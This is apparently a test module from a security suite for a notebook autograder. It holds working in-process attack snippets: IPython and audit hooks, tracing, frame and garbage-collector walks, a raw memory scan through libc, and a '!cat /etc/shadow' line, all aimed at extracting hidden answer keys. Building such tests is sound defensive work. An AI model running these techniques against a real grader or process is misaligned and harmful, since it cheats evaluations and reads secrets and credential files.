"""Attacks from inside the process: hooks, tracing, walks through memory."""

from __future__ import annotations

from tests.attacks.arsenal import FIND, attack
from tests.attacks.harness import Sheet

HOOKS, WALKS = "IPython hooks and tracing", "frame and gc walks"


@attack(HOOKS)
def ipython_hooks(sheet: Sheet) -> Sheet:
    return (
        sheet.wrongly()
        .first(
            FIND
            + """
shell = get_ipython()
for event in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
    try:
        shell.events.register(event, lambda *args: take(args))
    except AttributeError:
        pass
shell.run_cell = shell.run_code = shell.run_line_magic = lambda *args, **kwargs: take(args)
shell.set_custom_exc = shell.showtraceback = lambda *args, **kwargs: None
for name in ("In", "Out", "_i", "_ih", "_oh", "__", "_1"):
    take(globals().get(name))
take(vars(shell))
take(list(shell.user_ns))
"""
        )
        .after("task5-drawn", "%load_ext autoreload\n!cat /etc/shadow ../*\ntell()\nprint('ARMED')")
    )


@attack(HOOKS)
def tracing_and_profiling(sheet: Sheet) -> Sheet:
    return (
        sheet.wrongly()
        .first(
            FIND
            + """
import sys, threading
SEEN = set()
def look(frame, event, arg):
    for _ in range(30):
        if frame is None:
            break
        if frame.f_code not in SEEN:
            SEEN.add(frame.f_code)
            take({k: v for k, v in frame.f_locals.items() if isinstance(v, (str, bytes, tuple))})
            take(frame.f_code.co_consts)
        frame = frame.f_back
    return look
sys.settrace(look); sys.setprofile(look); threading.settrace(look)
"""
        )
        .after("task4-drawn", "sys.settrace(None); sys.setprofile(None)\ntell()\nprint('ARMED')")
    )


@attack(HOOKS)
def audit_and_import_hooks(sheet: Sheet) -> Sheet:
    return (
        sheet.wrongly()
        .first(
            FIND
            + """
import builtins, gc, io, sys, atexit, signal, weakref
sys.addaudithook(lambda event, args: take(args))
real = builtins.__import__
builtins.__import__ = lambda *args, **kwargs: (take(args), real(*args, **kwargs))[1]
for name in ("compile", "exec", "eval", "open"):
    def spy(*args, _real=getattr(builtins, name), **kwargs):
        take(args)
        return _real(*args, **kwargs)
    setattr(builtins, name, spy)
gc.callbacks.append(lambda phase, info: take(info))
atexit.register(tell)
sys.excepthook = sys.unraisablehook = sys.displayhook = lambda *args: take(args)
class Finder:
    def find_spec(self, *args): take(args)
sys.meta_path.insert(0, Finder())
signal.signal(signal.SIGALRM, lambda *args: take(args[1].f_back))
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
"""
        )
        .after("task6-printed", "signal.setitimer(signal.ITIMER_REAL, 0)\ntell()\nprint('ARMED')")
    )


@attack(WALKS)
def frames_up_to_the_first(sheet: Sheet) -> Sheet:
    body = "raise ValueError(look() or 'nothing')"
    return sheet.every(body).first(
        FIND
        + """
import sys
def look():
    found, frame = [], sys._getframe()
    while frame is not None:
        for space in (frame.f_globals, frame.f_locals, frame.f_builtins):
            found += [k for k in list(space) if k.startswith(("_truth", "_seal", "_inputs"))]
            for value in list(space.values()):
                if isinstance(value, (str, bytes, list, dict, tuple)) and value is not TAKEN:
                    take(value)
        take(frame.f_code.co_consts)
        frame = frame.f_back
    return f"LOOT {found} {TAKEN}" if found or TAKEN else ""
print(look(), "ARMED")
"""
    )


GC_WALK = (
    FIND
    + """
import gc, types
def search():
    gc.unfreeze()
    for thing in gc.get_objects():
        if thing is TAKEN:
            continue
        if isinstance(thing, types.FunctionType):
            take(thing.__code__.co_consts)
            if thing.__name__.startswith("_truth"):
                TAKEN.append(thing.__name__)
        elif isinstance(thing, (list, tuple, dict)):
            for item in thing.values() if isinstance(thing, dict) else thing:
                if type(item) in (str, bytes):
                    take(item)
                elif type(item) is types.CodeType:
                    take(item.co_consts)
"""
)


@attack(WALKS)
def everything_that_gc_knows(sheet: Sheet) -> Sheet:
    return sheet.wrongly().first(GC_WALK).after("task3-drawn", "search()\ntell()\nprint('ARMED')")


@attack(WALKS)
def the_process_memory_in_raw(sheet: Sheet) -> Sheet:
    return (
        sheet.wrongly()
        .first(
            FIND
            + """
import ctypes, gc, os
libc = ctypes.CDLL(None, use_errno=True)
libc.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
ends = os.pipe()
PAGES = 2**16
def scan():
    blocks = {id(o) >> 20 for o in gc.get_objects()} | {id(s) >> 20 for s in list(globals())}
    seen = 0
    for block in sorted({b + d for b in blocks for d in range(-2, 3)}):
        for at in range(block << 20, (block + 1) << 20, PAGES):
            # The kernel says that nothing is there where a read of one's own would crash.
            got = libc.write(ends[1], at, PAGES)
            if got > 0:
                seen += got
                take(os.read(ends[0], PAGES))
    return seen
"""
        )
        .after("task3-drawn", "assert scan() > 2**20\ntell()\nprint('ARMED')")
    )


@attack(WALKS)
def the_grader_as_a_module(sheet: Sheet) -> Sheet:
    return sheet.wrongly().first(
        FIND
        + """
import importlib, inspect, linecache, pkgutil, sys
for name, module in list(sys.modules.items()):
    if name.startswith(("grader", "course_utils", "tests", "__main__")):
        take([v for v in vars(module).values() if isinstance(v, (str, list, dict))])
for name in ("grader.master", "grader.layout", "grader.autograde", "grader.sealed.plan", "tests"):
    try:
        importlib.import_module(name)
        print("LOOT", name)
    except ImportError:
        pass
take(linecache.cache)
for frame in inspect.stack():
    take(frame.code_context)
tell()
print("ARMED")
"""
    )
